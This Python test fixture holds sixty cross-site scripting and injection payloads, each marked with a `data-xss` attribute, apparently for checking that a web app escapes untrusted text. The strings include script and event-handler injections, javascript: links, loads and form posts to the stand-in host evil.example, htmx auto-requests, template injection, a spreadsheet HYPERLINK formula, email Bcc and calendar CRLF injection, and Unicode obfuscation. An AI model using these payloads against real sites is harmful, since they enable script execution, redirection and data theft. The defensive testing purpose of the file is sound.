"""Sixty texts that would do something where they are shown without care. What is drawn of one has `data-xss`."""

from __future__ import annotations

EVIL = "https://evil.example"
PAYLOADS = (
    # Elements that run, or load something
    "<script data-xss>window.xss=1;alert(1)</script>",
    f'<script src="{EVIL}/x.js" data-xss></script>',
    "<img src=x onerror=alert(1) data-xss>",
    f'<img src="{EVIL}/pixel.gif" data-xss>',
    "<svg onload=alert(1) data-xss>",
    "<svg/onload=alert(1)//data-xss",
    '<svg data-xss><script href="data:,alert(1)"/></svg>',
    "<svg data-xss><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math data-xss><mtext><a xlink:href="javascript:alert(1)">m</a></math>',
    "<iframe src=javascript:alert(1) data-xss></iframe>",
    '<iframe srcdoc="<script>parent.xss=1</script>" data-xss></iframe>',
    "<object data=data:text/html,<script>alert(1)</script> data-xss></object>",
    "<embed src=javascript:alert(1) data-xss>",
    "<details open ontoggle=alert(1) data-xss>",
    "<body onload=alert(1) data-xss>",
    "<input autofocus onfocus=alert(1) data-xss>",
    "<video data-xss><source onerror=alert(1)></video>",
    "<p style=animation:x onanimationstart=alert(1) data-xss>",
    f'<base href="{EVIL}/" data-xss>',
    f'<meta http-equiv=refresh content="0;url={EVIL}/" data-xss>',
    f'<form action="{EVIL}/" data-xss><button>Go on</button></form>',
    f'<button form=filter formaction="{EVIL}/" data-xss>Go on</button>',
    f'<link rel=stylesheet href="{EVIL}/x.css" data-xss>',
    "<style data-xss>*{display:none}</style>",
    '<div style="position:fixed;inset:0;background:url(https://evil.example/)" data-xss>',
    "<template data-xss><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1) data-xss>">',
    "<x-y onclick=alert(1) tabindex=1 data-xss>click</x-y>",
    # Out of where they stand
    '"><img src=x onerror=alert(1) data-xss>',
    "'><img src=x onerror=alert(1) data-xss>",
    '" onmouseover=alert(1) data-xss x="',
    "' onfocus=alert(1) autofocus data-xss x='",
    "` onclick=alert(1) data-xss `",
    "</title><script data-xss>alert(1)</script>",
    "</textarea><script data-xss>alert(1)</script>",
    "</script><script data-xss>alert(1)</script>",
    "</style></noscript></template></select><img src=x onerror=alert(1) data-xss>",
    "--><img src=x onerror=alert(1) data-xss><!--",
    "]]><img src=x onerror=alert(1) data-xss>",
    "<!-- <img src=x --!><img src=x onerror=alert(1) data-xss>",
    # What htmx would do
    '<div hx-get="/you" hx-trigger=load hx-target=body data-xss></div>',
    "<div hx-on:htmx:load=alert(1) hx-on--load=alert(1) data-xss></div>",
    '<div data-hx-post="/sign-out" data-hx-trigger=load data-xss></div>',
    # Links, as text and as the marks of Markdown
    "javascript:alert(1)",
    "[click](javascript:alert(1)) ![x](x onerror=alert(1))",
    "<javascript:alert(1)> <data:text/html,x> [a]: vbscript:x",
    "java\tscript:alert(1) JaVaScRiPt://%0aalert(1) https:javascript:alert(1)",
    f'{EVIL}/"onmouseover="alert(1)"data-xss="',
    f"{EVIL}/<b data-xss>{EVIL}/</b>?a=1&b=%22%3E%3Cscript%3E",
    f"[a]({EVIL}/[b]({EVIL}/'onclick='alert(1)' data-xss))",
    f"``` {EVIL}/ <img src=x onerror=alert(1) data-xss> ```",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== //evil.example www.evil.example ftp://evil.example",
    # What a template, a spreadsheet, a mail or a calendar would do
    "{{'xss'~49}}{% for x in 'x' %}{{x~'ss'~49}}{% endfor %}${'xss'+49}#{49} %(x)s %n {0}",
    '=HYPERLINK("https://evil.example","x")',
    "=?utf-8?q?x=0d=0aBcc:_evil@evil.example?= \r\nBcc: evil@evil.example\r\n\r\n<b data-xss>",
    "x\r\nATTENDEE:mailto:evil@evil.example\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil;x,y\\n",
    # Letters that are not what they seem
    "\uff1cimg src=x onerror=alert(1) data-xss\uff1e \u2039script\u203a \u0130\u017f \u202e<b data-xss>\u202c",
    "<\u0000img src=x onerror=alert(1) data-xss>\ufffd\u00c0\u00bc <\u200bscript>\ufeff <scr\u00adipt data-xss>",
    "&lt;img src=x onerror=alert(1) data-xss&gt; &#60;b data-xss&#62; &#x3c;b data-xss&#x3e; &amp;lt; &nbsp &#0;",
    "<b data-xss>" + "long " * 400 + "</b>" + "x" * 400,
)
FORMULAS = ("=1+1", "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1")
"""What a spreadsheet would work out, at the beginning of a cell."""
